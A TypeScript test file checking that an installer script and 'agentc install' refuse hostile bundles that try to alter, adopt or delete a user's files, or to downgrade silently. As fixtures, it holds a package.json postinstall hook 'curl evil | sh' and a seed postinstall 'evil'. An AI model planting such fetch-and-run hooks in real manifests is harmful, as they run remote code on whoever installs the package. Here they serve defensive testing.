import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { withCurrentLists } from "../../scripts/install-sh-lists.js";
import { composableFiles } from "../../src/install/bundle/composable-files.js";
import { takeoverPlaceLists } from "../../src/install/bundle/takeover-places.js";
import { installScriptPath } from "../../src/serve/install-script.js";
import { packageRoot } from "../../src/shared/package-paths.js";
import { byPrecedenceNewestFirst } from "../../src/shared/version-order.js";
import { makeComposeBundle } from "../support/compose-bundle.js";
import { type BundleSpec, copyOf, makeBundle, readRecordJson, stamps } from "../support/install-fixture.js";
import {
  fullTree,
  notLinux,
  runInstallSh,
  type Shell,
  served,
  shellSlice,
  shells,
} from "../support/install-sh.js";
import { manifestLineNumber, persons, personsFiles, personsProject } from "../support/persons-project.js";
import { runAgentc } from "../support/run-cli.js";
import { testdir } from "../support/testdir.js";

/**
 * The trust boundary in install.sh (issue 27), as in `agentc install` (test/install/install-trust.test.ts): a
 * bundle changes only what agentc's record shows it wrote, and an older version needs --allow-downgrade.
 * Each hostile case runs under dash and busybox sh; the person's files keep their bytes, mode and inode,
 * nothing is written, and the message names the manifest line that asked.
 */

const packageJson = persons["package.json"];

/** install.sh on the project, agentc install on a copy: both refuse (exit 1) and write nothing; the messages. */
async function bothRefuse(shell: Shell, bundle: string, project: string, sh: RegExp, node = sh) {
  const site = await served(bundle);
  const copy = copyOf(project);
  const before = { project: stamps(project), files: personsFiles(project), copy: stamps(copy) };
  const ran = await runInstallSh(shell, site.script, ["--project", project]);
  assert.equal(ran.status, 1, ran.stderr);
  assert.match(ran.stderr, sh);
  const agentc = await runAgentc(["install", site.url, "--project", copy, "--yes"]);
  assert.equal(agentc.status, 1, agentc.stderr);
  assert.match(agentc.stderr, node);
  assert.deepEqual(personsFiles(project), before.files, "the person's files: bytes, mode and inode");
  assert.deepEqual(stamps(project), before.project, "install.sh wrote nothing");
  assert.deepEqual(stamps(copy), before.copy, "agentc install wrote nothing");
  await site.stop();
}

describe("install.sh: a bundle changes only what agentc wrote", { skip: notLinux }, () => {
  it("every source file its comments name as the TypeScript it mirrors exists", () => {
    const named = readFileSync(installScriptPath, "utf8").match(/src\/[\w/.-]+\.ts/g) ?? [];
    assert.ok(named.length > 0);
    assert.deepEqual(
      named.filter((path) => !existsSync(join(packageRoot, path))),
      [],
      "name the file where it is now",
    );
  });

  it("its lists of composable files and takeover places are the ones agentc derives from its built-in adapters and client packs", () => {
    const script = readFileSync(installScriptPath, "utf8");
    const written = "npm run build writes the lists into assets/install.sh (scripts/install-sh-lists.ts)";
    assert.equal(script, withCurrentLists(script), written);
    const value = (name: string) => new RegExp(`^${name}='([^']*)'$`, "m").exec(script)?.[1]?.split(" ");
    const { instructions, settings } = composableFiles();
    assert.ok([...instructions, ...settings].every((p) => !p.includes(" ")));
    assert.deepEqual(value("AGENTC_INSTRUCTION_FILES"), [...instructions], written);
    assert.deepEqual(value("AGENTC_SETTINGS_FILES"), [...settings], written);
    const places = [...composableFiles().settingsPlaces].map(
      ([file, others]) => `${file}=${others.join(",")}`,
    );
    assert.ok(places.length > 0 && places.every((p) => !p.includes(" ") && !p.includes("'")));
    assert.deepEqual(value("AGENTC_SETTINGS_PLACES"), places, written);
    const takeover = takeoverPlaceLists();
    assert.ok([...takeover.files, ...takeover.dirs].every((p) => !p.includes(" ") && !p.includes("'")));
    assert.deepEqual(value("AGENTC_TAKEOVER_FILES"), takeover.files, written);
    assert.deepEqual(value("AGENTC_TAKEOVER_DIRS"), takeover.dirs, written);
  });

  const slice = shellSlice();
  for (const shell of shells()) {
    const it = slice(shell);
    it(`1. an adopt line naming a person's file rejects the bundle, naming the line (${shell.name})`, async () => {
      for (const victim of ["package.json", ".bashrc", "jest.config.js"]) {
        const spec = {
          components: { evil: { files: { [victim]: "<!-- -->evil()\n" }, adopt: [`${victim} :: block`] } },
        };
        const line = manifestLineNumber(makeBundle(spec), `"${victim} :: block"`);
        const text = `manifest\\.json line ${line} \\(install\\.components\\.evil\\.adopt\\): "${victim.replace(".", "\\.")} :: block" asks to compose into ${victim.replace(".", "\\.")}, which is not an instruction file agentc composes into \\(\\.claude/CLAUDE\\.md, `;
        await bothRefuse(
          shell,
          makeBundle(spec),
          personsProject(),
          new RegExp(`install\\.sh: ${text}`),
          new RegExp(`error: ${text}`),
        );
      }
    });

    it(`1b. a composed line naming package.json rejects the bundle, naming the line (${shell.name})`, async () => {
      const bundle = makeComposeBundle({ components: { evil: { files: { "AGENTS.md": "a\n" } } } }, [
        {
          component: "evil",
          path: "package.json",
          format: "json",
          entries: [{ path: ["scripts", "postinstall"], value: "curl evil | sh" }],
        },
      ]);
      const text =
        /manifest\.json line \d+ \(install\.components\.evil\.composed\): "package\.json :: json :: [^"]+" asks to compose into package\.json, which is not a settings file agentc composes into/;
      await bothRefuse(shell, bundle, personsProject(), text);
    });

    it(`2. a seed whose earlier hash only the bundle vouches for: a conflict naming the line (${shell.name})`, async () => {
      const spec: BundleSpec = {
        components: { evil: { seeds: { "package.json": '{"scripts":{"postinstall":"evil"}}\n' } } },
        seedHistory: { "package.json": [packageJson] },
      };
      const message =
        /package\.json:? manifest\.json line \d+ \(install\.seed_refresh_hashes\): "package\.json :: [0-9a-f]{64}" calls this file an earlier version of the seed, but agentc's install record does not show agentc wrote it/;
      await bothRefuse(shell, makeBundle(spec), personsProject(), message);
    });

    it(`2b. a seed holding a person's exact bytes is theirs: a later version is parked beside it (${shell.name})`, async () => {
      const site = await served(
        makeBundle({ components: { evil: { seeds: { "package.json": packageJson } } } }),
      );
      const a = personsProject();
      const b = copyOf(a);
      assert.equal((await runInstallSh(shell, site.script, ["--project", a])).status, 0);
      assert.equal((await runAgentc(["install", site.url, "--project", b, "--yes"])).status, 0);
      assert.equal(readRecordJson(a).entries.find((e) => e.path === "package.json")?.adopted, true);
      await site.publish(
        makeBundle({ version: "2.0.0", components: { evil: { seeds: { "package.json": "{}\n" } } } }),
      );
      const before = personsFiles(a);
      const sh = await runInstallSh(shell, site.script, ["--project", a]);
      assert.equal(sh.status, 0, sh.stderr);
      assert.equal((await runAgentc(["install", site.url, "--project", b, "--yes"])).status, 0);
      assert.deepEqual(personsFiles(a), before);
      assert.equal(readFileSync(join(a, "package.json.agentc-new"), "utf8"), "{}\n");
      assert.deepEqual(fullTree(a), fullTree(b), "the same tree and record as agentc install");
    });

    it(`3. remove of a person's file, its hash vouched for: a conflict naming both lines (${shell.name})`, async () => {
      const spec: BundleSpec = {
        components: { evil: { files: { "AGENTS.md": "a\n" }, remove: ["package.json"] } },
        seedHistory: { "package.json": [packageJson] },
      };
      const message =
        /package\.json:? manifest\.json line \d+ \(install\.components\.evil\.remove\): "package\.json" asks to delete it, but agentc's install record does not show agentc made a file there \(manifest\.json line \d+ \(install\.seed_refresh_hashes\): "package\.json :: [0-9a-f]{64}"/;
      await bothRefuse(shell, makeBundle(spec), personsProject(), message);
    });

    it(`4. an older version needs --allow-downgrade or AGENTC_ALLOW_DOWNGRADE=1 (${shell.name})`, async () => {
      const version = (v: string, text: string) =>
        makeBundle({ version: v, components: { core: { files: { "AGENTS.md": text } } } });
      const site = await served(version("1.1.0", "new\n"));
      const project = testdir();
      assert.equal((await runInstallSh(shell, site.script, ["--project", project])).status, 0);
      await site.publish(version("1.0.0", "old\n"));
      const before = stamps(project);
      const refused = await runInstallSh(shell, site.script, ["--project", project]);
      assert.equal(refused.status, 1);
      assert.match(
        refused.stderr,
        /the bundle's registry_version 1\.0\.0 is older than 1\.1\.0, the version installed here; nothing was installed\n {2}hint: .*--allow-downgrade \(or AGENTC_ALLOW_DOWNGRADE=1\)/,
      );
      assert.deepEqual(stamps(project), before);
      const byEnv = await runInstallSh(shell, site.script, ["--project", project, "--dry-run"], {
        AGENTC_ALLOW_DOWNGRADE: "1",
      });
      assert.equal(byEnv.status, 0, byEnv.stderr);
      assert.deepEqual(stamps(project), before, "a dry run writes nothing");
      const byOption = await runInstallSh(shell, site.script, ["--project", project, "--allow-downgrade"]);
      assert.equal(byOption.status, 0, byOption.stderr);
      assert.equal(readFileSync(join(project, "AGENTS.md"), "utf8"), "old\n");
      assert.equal(readRecordJson(project).registry_version, "1.0.0");
    });

    it(`orders versions as agentc does (${shell.name})`, () => {
      const versions = [
        "1.0.0",
        "1.1.0",
        "1.0.0+build.7",
        "v1.0.0",
        "1.0.0-rc.1",
        "1.0.0-rc.10",
        "1.0.0-rc.2",
        "1.0.0-alpha",
        "1.0.0-alpha.1",
        "1.0.0-1",
        "1.0.0-a.b.c",
        "0.0.0+0123abcd",
        "0.0.0+ffff0000",
        "2.0.0",
        "10.0.0",
        "1.2",
        "latest",
        "1.0.0.0",
        "01.0.0",
        "99999999999999999.0.0",
      ];
      for (const a of versions)
        for (const b of versions) {
          const sh = spawnSync(
            shell.command[0] as string,
            [...shell.command.slice(1), installScriptPath, "--compare-versions", a, b],
            {
              encoding: "utf8",
              env: { ...process.env, ...shell.env },
            },
          );
          assert.equal(
            sh.stdout.trim(),
            String(Math.sign(byPrecedenceNewestFirst(b, a))),
            `${a} against ${b}`,
          );
        }
    });
  }
});
